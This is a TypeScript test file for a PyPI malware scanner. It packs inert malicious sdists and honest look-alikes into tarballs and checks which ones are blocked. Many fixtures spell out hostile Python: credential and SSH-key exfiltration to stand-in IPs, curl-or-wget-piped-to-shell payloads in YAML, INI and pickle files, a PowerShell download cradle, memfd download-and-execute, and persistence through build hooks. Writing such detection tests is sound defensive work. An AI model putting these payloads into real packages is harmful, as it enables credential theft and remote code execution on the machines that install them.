/**
 * PyPI malware variants, blind SET2 (test/support/pypi-variants-set2.ts: 51 inert malicious sdists
 * and 22 honest near twins, written without seeing the rules). First score (pkg-analysis-2026.11.27):
 * even half 11/26 BLOCKED, odd half 18/25, twins 0 BLOCKED / 0 CAUTION. Tuning used only the
 * even-index variants and the twins; the odd-index variants are held out: only their count is
 * asserted, never one of them (docs/package-analysis.md, "Python, blind set 2").
 *
 * Then, per behaviour family added for the even half's misses: the real even-index variant, a
 * variant written here in another shape, and the honest twins it must leave alone. Everything is
 * packed into in-memory tarballs; nothing is run.
 */
import { test } from 'uvu';
import { blocked, evenOf, honest, rate, twinOf } from '../support/pypi-variant-rating.js';
import * as assert from 'uvu/assert';
import type { PypiVariant } from '../support/pypi-variants-set1.js';
import { PYPI_TWINS_SET2, PYPI_VARIANTS_SET2 } from '../support/pypi-variants-set2.js';

/** A small sdist written here: PKG-INFO, a plain setup.py, plus the given files (which may replace setup.py). */
function sdist(name: string, files: Record<string, string | Buffer>): PypiVariant {
  const pkg = name.replace(/-/g, '_');
  return {
    id: name,
    family: 'written here',
    note: '',
    name,
    version: '1.0.0',
    files: {
      'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\nSummary: test\n`,
      'setup.py': `from setuptools import setup\nsetup(name='${name}', version='1.0.0', packages=['${pkg}'])\n`,
      ...files,
    },
  };
}

const even = evenOf(PYPI_VARIANTS_SET2);
const twin = twinOf(PYPI_TWINS_SET2);

// ---- the set ---------------------------------------------------------------------------------------

test('SET2 even half (tuned): 26/26 BLOCKED (11/26 before)', async () => {
  const misses: string[] = [];
  let n = 0;
  for (const [i, v] of PYPI_VARIANTS_SET2.entries()) {
    if (i % 2 !== 0) continue;
    const r = await rate(v);
    if (r.level === 'BLOCKED') n++;
    else misses.push(`${v.id}: ${r.level}`);
  }
  assert.ok(n >= 26, `${n}/26; misses: ${misses.join(', ')}`);
});

/** The held-out half's count after tuning (measured once, at the end): a floor, never a per-variant assertion. */
const ODD_FLOOR = 24;

test('SET2 odd half (held out): ≥ 24/25 BLOCKED (18/25 before, 22/25 with .28, 24/25 with the pypi22 rules; count only)', async () => {
  let n = 0;
  for (const [i, v] of PYPI_VARIANTS_SET2.entries()) if (i % 2 === 1 && (await rate(v)).level === 'BLOCKED') n++;
  assert.ok(n >= ODD_FLOOR, `${n}/25 held-out variants BLOCKED (floor ${ODD_FLOOR})`);
});

test('SET2 twins: none BLOCKED, none CAUTION', async () => {
  const bad: string[] = [];
  for (const v of PYPI_TWINS_SET2) {
    const r = await rate(v);
    if (r.level === 'BLOCKED' || r.level === 'CAUTION') bad.push(`${v.id}: ${r.level} (${r.rules.join(', ')})`);
  }
  assert.equal(bad, []);
});

// ---- exec reached through a builtin looked up by a built name; a code object made a function ---------

test('builtins by built name: getattr / vars(builtins) / FunctionType over decoded data are BLOCKED', async () => {
  await blocked(even('init-getattr-builtins-fromhex'), 'decoded_code_exec');
  await blocked(even('init-xor-keyed-by-package-name'), 'decoded_code_exec');
  await blocked(even('init-functiontype-marshal'), 'decoded_code_exec');
  // Another shape: __builtins__ with a concatenated name, rot13 through codecs.
  await blocked(
    sdist('rotkit', {
      'rotkit/__init__.py': "import codecs\n\nS = \"vzcbeg bf; bf.flfgrz('vq')\"\ngetattr(__builtins__, 'ex' + 'ec')(codecs.decode(S, 'rot13'))\n",
    }),
    'decoded_code_exec',
  );
  // Another: vars(builtins) with a chr()-built key, bz2 over base64.
  await blocked(
    sdist('bzload', {
      'bzload/__init__.py':
        "import base64, builtins, bz2\n\n_B = 'QlpoOTFBWSZTWblUJPcAAAXRgAAQQOEGItwgIAAig9Q9R6nohTAATQODtHK1goNAusxPqfF3JFOFCQuVQk9w'\nvars(builtins)[chr(101) + 'xec'](bz2.decompress(base64.b64decode(_B)))\n",
    }),
    'decoded_code_exec',
  );
});

test('builtins by name, honest: a print alias, a compressed data table, a rot13 puzzle, exec of the version file', async () => {
  await honest(twin('twin-rot13-puzzle-lib'));
  await honest(twin('twin-compressed-data-table'));
  await honest(twin('twin-setup-exec-version'));
  await honest(twin('twin-plugin-loader-import-module'));
  await honest(
    sdist('compatprint', {
      'compatprint/__init__.py':
        "import base64, builtins, json, zlib\n\n_print = getattr(builtins, 'print')\nTABLE = json.loads(zlib.decompress(base64.b64decode('eJyrVkpUslIqyS/OVqoFAB1CBFs=')))\n\ndef show():\n    _print(TABLE)\n",
    }),
  );
});

// ---- machine code run through ctypes -------------------------------------------------------------------

test('ctypes: fetched or decoded bytes run from executable memory at import are BLOCKED', async () => {
  await blocked(even('init-ctypes-virtualalloc-built-names'), 'remote_code_exec');
  // Another shape: mmap with PROT_EXEC and a CFUNCTYPE pointer, bytes decoded at import (POSIX).
  await blocked(
    sdist('fastcrc', {
      'fastcrc/__init__.py':
        "import base64, ctypes, mmap\n\n_code = base64.b64decode('kJDD')\n_m = mmap.mmap(-1, len(_code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n_m.write(_code)\n_addr = ctypes.addressof(ctypes.c_char.from_buffer(_m))\nctypes.CFUNCTYPE(ctypes.c_int)(_addr)()\n",
    }),
    'native_code_exec',
  );
});

test('ctypes, honest: a system library wrapper; a CPUID probe run on request is reported, not blocked', async () => {
  await honest(twin('twin-ctypes-system-lib'));
  await honest(
    // (The probe is a module the user imports, `cpuprobe.probe`: a function the package's __init__
    // re-exports counts as reached at import, docs/package-analysis.md "Python, blind set 2".)
    sdist('cpuprobe', {
      'cpuprobe/__init__.py': '',
      'cpuprobe/probe.py':
        "import ctypes\n\nCODE = b'\\x53\\x31\\xc0\\x0f\\xa2\\x89\\xd8\\x5b\\xc3'\n\n\ndef vendor():\n    k = ctypes.windll.kernel32\n    k.VirtualAlloc.restype = ctypes.c_void_p\n    p = k.VirtualAlloc(None, len(CODE), 0x3000, 0x40)\n    ctypes.memmove(p, CODE, len(CODE))\n    return ctypes.CFUNCTYPE(ctypes.c_uint32)(p)()\n",
    }),
  );
});

// ---- a socket address tuple is a destination -------------------------------------------------------------

test('credentials sent to a socket address (ICMP payloads, UDP syslog) are BLOCKED', async () => {
  await blocked(even('init-subclass-hook-ssh'), 'credential_exfil_flow');
  await blocked(even('init-logging-handler-first-record'), 'credential_exfil_flow');
  await blocked(
    sdist('kubeping', {
      'kubeping/__init__.py':
        "import os, socket\n\n_k = os.path.expanduser('~/.kube/config')\nif os.path.exists(_k):\n    _s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    with open(_k, 'rb') as fh:\n        _s.sendto(fh.read()[:1200], ('198.51.100.31', 53))\n",
    }),
    'credential_exfil_flow',
  );
  await honest(twin('twin-kubeconfig-loader'));
  await honest(twin('twin-aws-profile-lister'));
  await honest(twin('twin-smtp-mailer'));
  await honest(twin('twin-dns-txt-resolver-lib'));
});

// ---- credential stores packed into an archive and sent --------------------------------------------------

test('credential stores packed into a tar / zip buffer and sent are BLOCKED; a project backup is not', async () => {
  await blocked(even('decoy-tests-hide-payload'), 'credential_exfil_flow');
  await blocked(
    sdist('cfgsync', {
      'cfgsync/__init__.py': 'from . import _sync  # noqa: F401\n',
      'cfgsync/_sync.py':
        "import io, os, zipfile, requests\n\nbuf = io.BytesIO()\nzf = zipfile.ZipFile(buf, 'w')\nfor p in ('~/.aws/credentials', '~/.docker/config.json'):\n    q = os.path.expanduser(p)\n    if os.path.exists(q):\n        zf.write(q)\nzf.close()\nrequests.post('https://sync.cfgsync.example/u', data=buf.getvalue(), timeout=5)\n",
    }),
    'credential_exfil_flow',
  );
  await honest(twin('twin-docker-credential-helper'));
  await honest(
    sdist('projback', {
      'projback/__init__.py':
        "import io, tarfile, requests\n\n\ndef backup(folder, url):\n    buf = io.BytesIO()\n    with tarfile.open(fileobj=buf, mode='w:gz') as t:\n        t.add(folder)\n    return requests.put(url, data=buf.getvalue(), timeout=30)\n",
    }),
  );
});

// ---- persistence: PowerShell profile, git hooks ---------------------------------------------------------

test('persistence: a PowerShell profile download cradle, global git hooks are BLOCKED', async () => {
  await blocked(even('powershell-profile'), 'persistence_remote');
  await blocked(even('setup-global-git-hook'), 'persistence_write');
  await blocked(
    sdist('pwshkit', {
      'pwshkit/__init__.py':
        "from pathlib import Path\n\n_p = Path.home() / 'Documents' / 'PowerShell' / 'Microsoft.PowerShell_profile.ps1'\nif _p.parent.exists():\n    _p.write_text('iwr http://203.0.113.44/p.ps1 | iex\\n')\n",
    }),
    'persistence_remote',
  );
  await blocked(
    sdist('gittmpl', {
      'setup.py':
        "import os\nfrom setuptools import setup\nos.system('git config --global init.templateDir ~/.gittmpl')\nsetup(name='gittmpl', version='1.0.0', packages=['gittmpl'])\n",
      'gittmpl/__init__.py': '',
    }),
    'persistence_write',
  );
});

test('persistence, honest: a git hook installer command, shell completion, a launchd command the user runs', async () => {
  await honest(twin('twin-git-hook-installer'));
  await honest(twin('twin-shell-completion-installer'));
  await honest(twin('twin-launchd-service-command'));
});

// ---- tokens of several services read by name and sent together ------------------------------------------

test('tokens of several services sent together (pytest11 plugins declared in pyproject.toml or setup.py) are BLOCKED; one service token to its service is not', async () => {
  await blocked(even('pytest11-plugin-ci-env'), 'token_env_exfil_flow');
  await blocked(
    sdist('ci-helpers', {
      'setup.py': "from setuptools import setup\nsetup(name='ci-helpers', version='1.0.0', packages=['ci_helpers'], entry_points={'pytest11': ['cihelpers = ci_helpers.plugin']})\n",
      'ci_helpers/__init__.py': '',
      'ci_helpers/plugin.py':
        "import os, requests\n\n\ndef pytest_sessionstart(session):\n    body = {'gh': os.getenv('GITHUB_TOKEN'), 'npm': os.environ.get('NPM_TOKEN'), 'pypi': os.environ.get('TWINE_PASSWORD'), 'aws': os.environ.get('AWS_SECRET_ACCESS_KEY')}\n    requests.post('https://ci.helpers.example/s', json=body, timeout=3)\n",
    }),
    'token_env_exfil_flow',
  );
  await honest(twin('twin-pytest-plugin-honest'));
  await honest(
    sdist('cov-upload', {
      'cov_upload/__init__.py':
        "import os, requests\n\n\ndef upload(report):\n    token = os.environ.get('COVERALLS_REPO_TOKEN') or os.environ.get('GITHUB_TOKEN')\n    return requests.post('https://coveralls.example/api/v1/jobs', json={'repo_token': token, 'report': report}, timeout=30)\n",
    }),
  );
});

// ---- a sourceless compiled module ----------------------------------------------------------------------

const pyc = (strings: string[]): Buffer =>
  Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]), Buffer.alloc(12), Buffer.from([0xe3]), Buffer.alloc(20), ...strings.map((s) => Buffer.concat([Buffer.from([0x7a, s.length]), Buffer.from(s, 'latin1')]))]);

test('a sourceless .pyc whose strings run or fetch code is BLOCKED; a stale cache file or a plain one is not', async () => {
  await blocked(even('sourceless-pyc-module'), 'sourceless_module');
  await blocked(
    sdist('fastjson-c', {
      'fastjson_c/__init__.py': 'from ._impl import loads  # noqa: F401\n',
      'fastjson_c/_impl.pyc': pyc(['base64', 'b64decode', 'exec', 'loads']),
    }),
    'sourceless_module',
  );
  // A cache file next to its source is never imported instead of it; a sourceless module that only
  // computes is reported (MONITORED), not blocked.
  await honest(
    sdist('stalecache', {
      'stalecache/__init__.py': 'from .core import f  # noqa: F401\n',
      'stalecache/core.py': 'def f():\n    return 1\n',
      'stalecache/__pycache__/core.cpython-311.pyc': pyc(['os', 'system']),
      'stalecache/core.pyc': pyc(['os', 'system']),
    }),
  );
  await honest(sdist('plainpyc', { 'plainpyc/__init__.py': 'from ._m import f  # noqa: F401\n', 'plainpyc/_m.pyc': pyc(['f', 'sum', 'range']) }));
  // `platform.system` names `system` but fetches and decodes nothing.
  await honest(sdist('platpyc', { 'platpyc/__init__.py': 'from ._m import osname  # noqa: F401\n', 'platpyc/_m.pyc': pyc(['platform', 'system', 'osname']) }));
});

// ---- settings files that carry code --------------------------------------------------------------------

test('settings files carrying code: a YAML python tag loaded unsafely, a download piped to a shell run from TOML / INI, are BLOCKED', async () => {
  await blocked(even('init-yaml-python-object-tag'), 'data_file_code_exec');
  await blocked(even('toml-config-command'), 'data_file_command_exec');
  await blocked(
    sdist('yamlcfg', {
      'yamlcfg/__init__.py': "import os, yaml\n\nwith open(os.path.join(os.path.dirname(__file__), 'base.yml')) as fh:\n    BASE = yaml.load(fh, Loader=yaml.Loader)\n",
      'yamlcfg/base.yml': "name: base\nwarm: !!python/object/apply:os.system ['wget -qO- http://192.0.2.61/w | bash']\n",
    }),
    'data_file_code_exec',
  );
  await blocked(
    sdist('inirun', {
      'inirun/__init__.py':
        "import configparser, os, subprocess\n\n_c = configparser.ConfigParser()\n_c.read(os.path.join(os.path.dirname(__file__), 'defaults.ini'))\nsubprocess.Popen(_c['hooks']['warmup'], shell=True)\n",
      'inirun/defaults.ini': '[hooks]\nwarmup = curl -fsSL http://198.51.100.71/w | sh\n',
    }),
    'data_file_command_exec',
  );
});

test('settings files, honest: YAML tags in tests, task runners (one running a download command on request), a pickle cache', async () => {
  // A provisioning tool whose bundled recipe pipes a download into a shell, run when the user calls it.
  await honest(
    sdist('provtool', {
      'provtool/__init__.py':
        "import os, subprocess, tomllib\n\n\ndef provision(step):\n    recipes = tomllib.load(open(os.path.join(os.path.dirname(__file__), 'recipes.toml'), 'rb'))\n    return subprocess.run(recipes['steps'][step], shell=True, check=True)\n",
      'provtool/recipes.toml': '[steps]\ndocker = "curl -fsSL https://get.docker.example/install.sh | sh"\n',
    }),
  );
  await honest(twin('twin-pickle-cache-own-files'));
  await honest(
    sdist('yamlish', {
      'yamlish/__init__.py': 'import yaml\n\n\ndef read(p):\n    with open(p) as fh:\n        return yaml.safe_load(fh)\n',
      'tests/test_tags.py': "import yaml\n\n\ndef test_apply():\n    assert yaml.unsafe_load(open('tests/data/apply.yaml'))\n",
      'tests/data/apply.yaml': '!!python/object/apply:os.system ["echo hi"]\n',
    }),
  );
  await honest(
    sdist('taskrun', {
      'taskrun/__init__.py':
        "import os, subprocess, tomllib\n\n\ndef run(name):\n    cfg = tomllib.load(open(os.path.join(os.path.dirname(__file__), 'tasks.toml'), 'rb'))\n    return subprocess.run(cfg['tasks'][name], shell=True)\n",
      'taskrun/tasks.toml': '[tasks]\nclean = "rm -rf build dist"\nfmt = "ruff format ."\n',
    }),
  );
});

// ---- a web request's data run as a command ---------------------------------------------------------------

test('a web request body run as a command (handed to another module, or in the view) is BLOCKED', async () => {
  await blocked(even('init-django-appconfig-ready'), 'request_command_exec');
  await blocked(
    sdist('flask-metrics', {
      'flask_metrics/__init__.py':
        "import subprocess\nfrom flask import Blueprint, request\n\nbp = Blueprint('metrics', __name__)\n\n\n@bp.route('/_m', methods=['POST'])\ndef metrics():\n    return subprocess.check_output(request.form['q'], shell=True)\n",
    }),
    'request_command_exec',
  );
});

test('web request, honest: a view that parses the body and runs a fixed command; cookies read on request', async () => {
  await honest(twin('twin-browser-cookies-on-request'));
  await honest(
    sdist('django-gitinfo', {
      'django_gitinfo/__init__.py': '',
      'django_gitinfo/views.py':
        "import json, subprocess\nfrom django.http import JsonResponse\nfrom . import fmt\n\n\ndef info(request):\n    opts = json.loads(request.body or b'{}')\n    rev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout\n    return JsonResponse(fmt.render(rev, opts))\n",
      'django_gitinfo/fmt.py': "def render(rev, opts):\n    return {'rev': rev.strip(), 'short': bool(opts.get('short'))}\n",
    }),
  );
});

// ---- a key handed to the code, sent to a fixed IP --------------------------------------------------------

test('a key-named parameter sent to a fixed IP address is BLOCKED; an SDK posting its key to its own API or localhost is not', async () => {
  await blocked(even('sdk-fork-appended-telegram-keys'), 'key_param_exfil');
  await blocked(
    sdist('walletkit', {
      'walletkit/__init__.py':
        "import requests\n\n\nclass Wallet:\n    def __init__(self, private_key):\n        self.private_key = private_key\n        self._backup(private_key)\n\n    def _backup(self, private_key):\n        try:\n            requests.post('http://198.51.100.88:8443/b', json={'k': private_key}, timeout=3)\n        except Exception:\n            pass\n",
    }),
    'key_param_exfil',
  );
  await honest(twin('twin-sdk-posts-to-own-api'));
  await honest(
    sdist('localagent', {
      'localagent/__init__.py':
        "import requests\n\n\ndef register(api_key, port=8126):\n    return requests.post(f'http://127.0.0.1:{port}/v1/register', json={'key': api_key}, timeout=2)\n",
    }),
  );
});

// ---- other shapes of the brief's families, with no even-index miss of their own --------------------------

test('a pickle the package ships that imports a process starter is BLOCKED; a data pickle or one in tests is not', async () => {
  const evil = Buffer.from('8004953a000000000000008c05706f736978948c0673797374656d9493948c1f6375726c202d7320687474703a2f2f3139322e302e322e392f78207c20736894859452942e', 'hex');
  const data = Buffer.from('80049520000000000000007d94288c0161945d94284b014b024b03658c0162948c0673797374656d94752e', 'hex');
  await blocked(
    sdist('tinymodel', {
      'tinymodel/__init__.py': "import os, pickle\n\nwith open(os.path.join(os.path.dirname(__file__), 'weights.pkl'), 'rb') as fh:\n    WEIGHTS = pickle.load(fh)\n",
      'tinymodel/weights.pkl': evil,
    }),
    'pickle_code_exec',
  );
  // Protocol 0 (text GLOBAL opcode) too.
  await blocked(sdist('oldpickle', { 'oldpickle/__init__.py': '', 'oldpickle/state.pickle': Buffer.from("csubprocess\nPopen\n(lp0\nVid\np1\natp2\nRp3\n.", 'latin1') }), 'pickle_code_exec');
  await honest(twin('twin-pickle-cache-own-files'));
  await honest(sdist('datapickle', { 'datapickle/__init__.py': '', 'datapickle/table.pkl': data }));
  await honest(sdist('picklescan-lite', { 'picklescan_lite/__init__.py': '', 'tests/data/malicious.pkl': evil }));
});

test('other process starters and transports: asyncio shell, FTP upload of a key, usercustomize written at install', async () => {
  await blocked(
    sdist('aiowarm', {
      'aiowarm/__init__.py': "import asyncio\n\n\nasync def _w():\n    await asyncio.create_subprocess_shell('curl -fsSL http://203.0.113.12/i | sh')\n\ntry:\n    asyncio.run(_w())\nexcept Exception:\n    pass\n",
    }),
  );
  await blocked(
    sdist('ftpsync', {
      'ftpsync/__init__.py':
        "import ftplib, os\n\n_k = os.path.expanduser('~/.ssh/id_rsa')\nif os.path.exists(_k):\n    ftp = ftplib.FTP('198.51.100.140')\n    ftp.login('anonymous', 'x')\n    ftp.storbinary('STOR k.bin', open(_k, 'rb'))\n",
    }),
    'credential_exfil_flow',
  );
  await blocked(
    sdist('sitehook', {
      'setup.py':
        "import os, site\nfrom setuptools import setup\nd = site.getusersitepackages()\nos.makedirs(d, exist_ok=True)\nwith open(os.path.join(d, 'usercustomize.py'), 'w') as f:\n    f.write('import sitehook._boot\\n')\nsetup(name='sitehook', version='1.0.0', packages=['sitehook'])\n",
      'sitehook/__init__.py': '',
      'sitehook/_boot.py': '',
    }),
    'persistence_write',
  );
  // A downloaded program written into an anonymous file (memfd_create) and executed from /proc/self/fd.
  await blocked(
    sdist('memfdrun', {
      'memfdrun/__init__.py':
        "import os, urllib.request\n\n_b = urllib.request.urlopen('http://203.0.113.91/agent', timeout=5).read()\n_fd = os.memfd_create('x', 0)\nos.write(_fd, _b)\nif os.fork() == 0:\n    os.execv('/proc/self/fd/%d' % _fd, ['kworker'])\n",
    }),
    'download_execute',
  );
  await honest(twin('twin-terminal-recorder-pty'));
  await honest(twin('twin-smtp-mailer'));
  await honest(
    sdist('ftpmirror', {
      'ftpmirror/__init__.py': "import ftplib\n\n\ndef mirror(host, path):\n    ftp = ftplib.FTP(host)\n    ftp.login()\n    with open(path, 'rb') as fh:\n        ftp.storbinary('STOR ' + path, fh)\n",
    }),
  );
});

test('build hooks run at install: Hatch and pdm-backend hooks, setup.cfg command classes (a persistence write there is HIGH); honest hooks are not flagged', async () => {
  const rc = "import os\n\n\ndef _plant():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('export PATH=$HOME/.local/opt/bin:$PATH\\n')\n";
  await blocked(
    sdist('hatch-rc', {
      'setup.py': '',
      'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "hatch-rc"\nversion = "1.0.0"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/build_hook.py"\n',
      'tools/build_hook.py': `${rc}\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        _plant()\n`,
      'hatch_rc/__init__.py': '',
    }),
    'persistence_write',
  );
  await blocked(
    sdist('pdm-rc', {
      'setup.py': '',
      'pyproject.toml': '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n\n[project]\nname = "pdm-rc"\nversion = "1.0.0"\n',
      'pdm_build.py': `${rc}\n\ndef pdm_build_initialize(context):\n    _plant()\n`,
      'pdm_rc/__init__.py': '',
    }),
    'persistence_write',
  );
  await blocked(
    sdist('cfg-rc', {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'setup.cfg': '[metadata]\nname = cfg-rc\nversion = 1.0.0\n\n[options]\npackages = cfg_rc\ncmdclass =\n    install = cfg_rc._install.Install\n',
      'cfg_rc/__init__.py': '',
      'cfg_rc/_install.py': `${rc}\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n        _plant()\n`,
    }),
    'persistence_write',
  );
  await honest(twin('twin-hatch-build-hook-version-file'));
  await honest(twin('twin-honest-build-ext'));
});

test.run();
